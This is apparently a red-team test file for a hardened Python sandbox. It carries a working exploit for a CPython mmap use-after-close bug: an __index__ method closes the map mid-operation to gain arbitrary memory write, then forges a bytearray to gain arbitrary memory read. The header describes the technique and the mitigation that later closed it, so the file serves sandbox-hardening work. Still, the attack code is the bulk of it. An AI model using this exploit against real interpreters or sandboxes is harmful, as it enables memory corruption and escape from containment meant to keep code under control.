# Red team round 21 (CPython gh-103987, Debian bookworm's 3.11.2; fixed upstream in 3.11.4): mmap's indexing,
# slice assignment, find, read, write_byte, move... check that the map is open, then convert an argument
# with the test's `__index__`, then use it. An `__index__` that closes the map leaves its data pointer NULL
# and its size as it was, so `m[at:at + n]` reads and `m[at:at + n] = data` writes the absolute addresses
# [at, at + n) for any `at` below the map's size. The interpreter is not position-independent: its static
# objects sit below 16 MiB, so a map of a few MiB reaches them. A fake empty bytearray (NULL data pointer,
# length 2**62) is written in a bytes object of the test's; a static type's tp_base (offset 256) is pointed
# at it for one `__base__` read, then put back: that read hands the test the fake, and `mem[x]` reads
# address x. Then _common.py. Offsets are 3.11's (x86-64).
# Closed: _r2e_kernel.harden_type: mmap's methods and slots make their arguments plain before its C code
# runs, so the close happens before the validity check (ValueError), and _imp refuses creating mmap again
# (guard_imports).
# (After reentry/_prelude.py: `f` and `touch`.)
import mmap

KEEP = []


def closing(m, at):
    class Close:
        def __index__(self):
            m.close()
            return at
    return Close()


def poke(at, data):
    m = mmap.mmap(-1, (at + len(data) + 8191) & ~4095)
    m[closing(m, at):at + len(data)] = data


def words(*values):
    return b"".join(v.to_bytes(8, "little") for v in values)


def reader():
    kind = type(reversed([]))
    was = kind.__base__
    fake = words(1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
    KEEP.append(fake)
    poke(id(kind) + 256, words(id(fake) + 32))
    try:
        mem = kind.__base__
    finally:
        poke(id(kind) + 256, words(id(was)))
    assert kind.__base__ is was and type(mem) is bytearray and len(mem) == 1 << 62
    return mem


def test_structure():
    assert_structure(reader())
